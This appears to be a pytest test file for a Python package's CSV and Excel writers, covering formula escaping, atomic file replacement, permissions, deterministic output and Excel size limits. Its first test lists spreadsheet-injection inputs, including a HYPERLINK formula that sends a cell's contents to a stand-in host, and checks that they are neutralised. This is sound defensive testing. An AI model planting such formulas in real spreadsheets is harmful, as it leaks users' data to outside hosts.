"""Files are written whole, text stays text, the same input gives the same bytes."""

from __future__ import annotations

import os
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from merilo.assessment.errors import InputError
from merilo.formats.numbers import ExactNumber, parse_number
from merilo.formats.writing import Cell, safe_cell, write_csv
from merilo.formats.xlsx_tables import Sheet, write_workbook
from merilo.whole_files import write_atomically
from tests.formats.table_files import read, say


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://a.test/"&A1)', '\'=HYPERLINK("http://a.test/"&A1)'),
        ("+7 912 000-00-00", "'+7 912 000-00-00"),
        ("-2+3", "'-2+3"),
        ("- очередь", "'- очередь"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "-5"),
        ("−0,5", "−0,5"),
        ("+5 %", "+5 %"),
        ("-", "-"),
        ("–", "–"),
        ("нет данных", "нет данных"),
        ("а = б", "а = б"),
        ("", ""),
    ],
)
def test_no_formula_gets_into_a_csv(text: str, written: str) -> None:
    assert safe_cell(text) == written


@given(st.text(alphabet="=+-@\t\r ＝a1,", max_size=8))
def test_what_looks_like_a_formula_is_a_number_a_dash_or_marked(text: str) -> None:
    safe = safe_cell(text)
    if safe.lstrip()[:1] in set("=+-@＝"):
        assert isinstance(parse_number(safe), ExactNumber) or safe.strip() == "-"


def test_csv_is_read_back(tmp_path: Path) -> None:
    path = tmp_path / "баллы.csv"
    rows: list[Sequence[Cell]] = [["ш1", Decimal("0.960"), None], ['«а», "б"\nв', 7, date(2024, 5, 6)]]
    write_csv(path, ["Код", "Балл", "Дата"], rows)
    assert path.read_bytes().startswith("\ufeffКод,Балл,Дата\r\nш1,0.960,\r\n".encode())
    table, problems = read(path)
    assert problems == []
    assert table is not None
    assert table.rows == [("ш1", "0.960", ""), ('«а», "б"\nв', "7", "2024-05-06")]


def test_small_decimals_are_written_out(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", ["а"], [[Decimal("1E-7")], [Decimal("1E+3")]])
    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").split() == ["а", "0.0000001", "1000"]


def test_a_failure_leaves_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "итог.csv"
    path.write_text("старое", encoding="utf-8")

    def fail(unfinished: Path) -> None:
        unfinished.write_text("полов", encoding="utf-8")
        raise RuntimeError("нет места")

    with pytest.raises(RuntimeError, match="нет места"):
        write_atomically(path, fail)
    assert path.read_text(encoding="utf-8") == "старое"
    assert [file.name for file in tmp_path.iterdir()] == ["итог.csv"]


def test_the_unfinished_file_is_a_neighbour_of_the_same_kind(tmp_path: Path) -> None:
    seen: list[Path] = []

    def write(unfinished: Path) -> None:
        seen.append(unfinished)
        unfinished.write_bytes(b"1")

    write_atomically(tmp_path / "итог.xlsx", write)
    assert (seen[0].parent, seen[0].suffix) == (tmp_path, ".xlsx")
    assert [file.name for file in tmp_path.iterdir()] == ["итог.xlsx"]


@pytest.mark.skipif(os.name != "posix", reason="rights are a POSIX matter")
def test_rights_to_a_replaced_file_stay(tmp_path: Path) -> None:
    path = tmp_path / "итог.csv"
    write_csv(path, ["а"], [])
    path.chmod(0o640)
    write_csv(path, ["а"], [["1"]])
    assert path.stat().st_mode & 0o777 == 0o640


SCORES = Sheet(
    "Баллы",
    ("Код", "Балл", "Дата", "Отзыв"),
    [["ш1", Decimal("95.50"), date(2024, 5, 6), "=1+1"], ["ш2", 7, None, "http://a.test/"]],
    {"Балл": "0.00"},
)


def test_a_workbook_is_read_back(tmp_path: Path) -> None:
    path = tmp_path / "баллы.xlsx"
    write_workbook(path, [SCORES])
    table, problems = read(path)
    assert problems == []
    assert table is not None
    assert table.header == SCORES.header
    assert table.rows == [("ш1", "95.5", "2024-05-06", "=1+1"), ("ш2", "7", "", "http://a.test/")]


def test_the_same_tables_give_the_same_bytes(tmp_path: Path) -> None:
    write_workbook(tmp_path / "a.xlsx", [SCORES, Sheet("Пусто", ("а",), [])])
    write_workbook(tmp_path / "b.xlsx", [SCORES, Sheet("Пусто", ("а",), [])])
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_a_long_number_loses_nothing(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [Sheet("а", ("а",), [[12345678901234567890], [Decimal("0.1234567890123456789")]])])
    table, _ = read(path)
    assert table is not None
    assert table.rows == [("12345678901234567890",), ("0.1234567890123456789",)]


def test_what_excel_cannot_hold_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError) as raised:
        write_workbook(tmp_path / "a.xlsx", [Sheet("Отзывы", ("Отзыв",), [["ф" * 40_000]])])
    assert [(found.code, found.place.row) for found in raised.value.problems] == [("TABLE-27", 2)]
    assert "32767" in say(raised.value.problems[0])
    with pytest.raises(InputError) as raised:
        write_workbook(tmp_path / "a.xlsx", [Sheet("Отзывы", ("Отзыв",), [[""]] * 1_048_576)])
    assert [found.code for found in raised.value.problems] == ["TABLE-28"]
    assert list(tmp_path.iterdir()) == []
